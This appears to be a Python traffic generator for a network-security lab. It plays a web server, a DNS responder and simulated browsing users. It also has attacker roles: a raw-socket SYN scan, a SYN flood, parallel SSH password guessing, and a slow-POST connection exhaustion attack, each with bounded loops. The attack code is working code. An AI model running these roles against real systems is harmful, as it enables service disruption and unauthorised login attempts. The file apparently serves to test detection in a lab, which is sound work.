"""Servers, people and attackers of ``live.py``: one of them a process, one a namespace.

    python _hosts.py ROLE NAME=VALUE...

The standard library alone, and nothing of ``evenflow.lab``: other clients, tools and
rates than those a model was trained on. Every loop is bounded in count and in time.
"""

from __future__ import annotations

import asyncio
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import time
from contextlib import suppress

SYN = 2
LONGEST_S = 30


async def web(port: int, seed: int, cert: str = "", key: str = "") -> None:
    """Serve pages of sizes that depend on their names, as quickly as any small site."""
    rng = random.Random(seed)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError,
                      TimeoutError):  # fmt: skip
            while True:
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), LONGEST_S)
                if b"Content-Length:" in head:
                    n = int(head.partition(b"Content-Length:")[2].split()[0])
                    await asyncio.wait_for(reader.readexactly(n), LONGEST_S)
                path = head.split()[1]
                size = int(10 ** random.Random(path).uniform(2.3, 5.3))
                await asyncio.sleep(rng.expovariate(100))
                status = b"404 Not Found" if b"missing" in path else b"200 OK"
                writer.write(
                    b"HTTP/1.1 %s\r\nServer: site\r\nContent-Length: %d\r\n\r\n"
                    % (status, size) + rng.randbytes(size)
                )  # fmt: skip
                await writer.drain()
                if b"Connection: close" in head:
                    break
        writer.close()

    context = None
    if cert:
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(cert, key)
    server = await asyncio.start_server(serve, "0.0.0.0", port, ssl=context)
    async with server:
        await server.serve_forever()


async def names(address: str) -> None:
    """Answer look-ups of any name with one address."""

    class Answer(asyncio.DatagramProtocol):
        def connection_made(self, transport: asyncio.BaseTransport) -> None:
            self.transport = transport

        def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
            record = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4)
            reply = data[:2] + bytes.fromhex("81800001000100000000") + data[12:]
            self.transport.sendto(reply + record + socket.inet_aton(address), addr)

    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(Answer, local_addr=("0.0.0.0", 53))
    await asyncio.sleep(3600)


async def browse(
    sites: str, resolver: str, seconds: float, people: int, seed: int
) -> None:
    """Load pages and what is on them as a few people do, with pauses to read."""
    ends = time.monotonic() + seconds
    addresses = [site.rsplit(":", 1) for site in sites.split(",")]
    await asyncio.gather(
        *(_person(addresses, resolver, ends, random.Random(seed * 100 + i))
          for i in range(people))
    )  # fmt: skip


async def _person(
    sites: list[list[str]], resolver: str, ends: float, rng: random.Random
) -> None:
    await asyncio.sleep(rng.uniform(0, 3))
    open_ones: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    while time.monotonic() < ends:
        ip, port = rng.choice(sites)
        await _look_up(resolver, f"www{rng.randrange(40)}.site.example", rng)
        paths = [f"/page{rng.randrange(60)}"]
        paths += [f"/object{rng.randrange(400)}" for _ in range(rng.randrange(10))]
        if rng.random() < 0.05:
            paths.append("/missing")
        page, *objects = paths
        at_once = rng.randint(1, 4)
        with suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
            open_ones.append(await _open(ip, int(port)))
            await _get(*open_ones[-1], ip, page)
            more = [objects[i::at_once] for i in range(at_once)]
            open_ones += await asyncio.gather(
                *(_objects(ip, int(port), part) for part in more if part)
            )
        for _, writer in open_ones[:-4]:
            writer.close()
        open_ones = open_ones[-4:]
        await asyncio.sleep(min(rng.expovariate(1 / 4) + 0.5, 15))
        if rng.random() < 0.3:  # the tab is closed
            for _, writer in open_ones:
                writer.close()
            open_ones = []


async def _open(
    ip: str, port: int
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    context = None
    if port in (443, 8443):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    opening = asyncio.open_connection(ip, port, ssl=context)
    return await asyncio.wait_for(opening, 5)


async def _objects(
    ip: str, port: int, paths: list[str]
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await _open(ip, port)
    for path in paths:
        await _get(reader, writer, ip, path)
    return reader, writer


async def _get(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, ip: str, path: str
) -> None:
    writer.write(
        f"GET {path} HTTP/1.1\r\nHost: {ip}\r\nAccept: */*\r\nUser-Agent: Mozilla/5.0 "
        "(Macintosh; Intel Mac OS X 14_2) Gecko/20100101 Firefox/132.0\r\n"
        f"Cookie: session={'c' * 60}\r\n\r\n".encode()
    )  # fmt: skip
    await writer.drain()
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    size = int(head.partition(b"Content-Length: ")[2].split()[0])
    await asyncio.wait_for(reader.readexactly(size), 10)


async def _look_up(resolver: str, name: str, rng: random.Random) -> None:
    words = b"".join(bytes([len(w)]) + w.encode() for w in name.split("."))
    question = struct.pack("!6H", rng.randrange(65536), 0x100, 1, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setblocking(False)
        out.connect((resolver, 53))
        loop = asyncio.get_running_loop()
        with suppress(OSError, TimeoutError):
            await loop.sock_sendall(out, question + words + b"\0\0\1\0\1")
            await asyncio.wait_for(loop.sock_recv(out, 512), 2)


def scan(source: str, target: str, ports: int, rate: float, seed: int) -> None:
    """Send a SYN to ports in any order; the kernel resets what answers."""
    rng = random.Random(seed)
    sender = rng.randrange(40_000, 60_000)
    chosen = rng.sample(range(1, 12_000), ports)
    _send(source, target, [(sender, port) for port in chosen], rate, rng)


def flood(
    source: str, target: str, port: int, packets: int, rate: float, seed: int
) -> None:
    """Send SYNs to one port from many ports, faster than anyone connects."""
    rng = random.Random(seed)
    ends = [(rng.randrange(1024, 65_536), port) for _ in range(packets)]
    _send(source, target, ends, rate, rng)


def _send(
    source: str,
    target: str,
    ends: list[tuple[int, int]],
    rate: float,
    rng: random.Random,
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as out:
        begun = time.monotonic()
        for i, (sender, port) in enumerate(ends):
            late = begun + i / rate - time.monotonic()
            if late > 0.002:
                time.sleep(late)
            out.sendto(_syn(source, target, sender, port, rng), (target, port))


def _syn(source: str, target: str, sender: int, port: int, rng: random.Random) -> bytes:
    """Return the TCP header of a first packet, with the option of a segment size."""
    options = b"\x02\x04\x05\xb4"
    words = (sender, port, rng.randrange(2**32), 0, 6 << 12 | SYN, 8192)
    head = struct.pack("!HHIIHH", *words) + bytes(4) + options
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo = ends + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
    total = sum(struct.unpack(f"!{len(pseudo + head) // 2}H", pseudo + head))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return head[:16] + struct.pack("!H", ~total & 0xFFFF) + head[18:]


def guess(target: str, user: str, sessions: int, at_once: int) -> None:
    """Guess by dropbear's client, as often in a session as the server allows."""
    running: list[subprocess.Popen[bytes]] = []
    begun = time.monotonic()
    for i in range(sessions):
        while len(running) >= at_once:
            time.sleep(0.05)
            running = [one for one in running if one.poll() is None]
        if time.monotonic() - begun > LONGEST_S:
            break
        running.append(
            subprocess.Popen(
                ["dbclient", "-y", "-y", "-T", f"{user}@{target}", "true"],
                env={**os.environ, "DROPBEAR_PASSWORD": f"guess-{i}", "HOME": "/tmp"},
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )  # fmt: skip
    for one in running:
        with suppress(subprocess.TimeoutExpired):
            one.wait(LONGEST_S)


async def slow(
    target: str, port: int, connections: int, rate: float, seconds: float, seed: int
) -> None:
    """Hold connections open with bodies of forms that come a few bytes at a time."""
    rng = random.Random(seed)
    ends = time.monotonic() + seconds
    head = (
        f"POST /comment HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/"
        f"x-www-form-urlencoded\r\nContent-Length: {rng.randrange(9000, 90000)}\r\n\r\n"
    ).encode()

    async def one(i: int) -> None:
        await asyncio.sleep(i / rate)
        with suppress(OSError, TimeoutError):
            _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 5)
            writer.write(head)
            while time.monotonic() < ends:
                await asyncio.sleep(rng.uniform(0.7, 2.5))
                writer.write(rng.randbytes(rng.randint(1, 4)).hex().encode())
                await writer.drain()
            writer.close()

    await asyncio.gather(*(one(i) for i in range(connections)))


ROLES = {f.__name__: f for f in (web, names, browse, scan, flood, guess, slow)}
KINDS = {"float": float, "int": int, "str": str}


def main() -> None:
    """Play a role, with its arguments as NAME=VALUE."""
    role = ROLES[sys.argv[1]]
    words = dict(word.split("=", 1) for word in sys.argv[2:])
    kinds = role.__annotations__
    given = {name: KINDS[kinds[name]](value) for name, value in words.items()}
    done = role(**given)
    if asyncio.iscoroutine(done):
        asyncio.run(done)


if __name__ == "__main__":
    main()
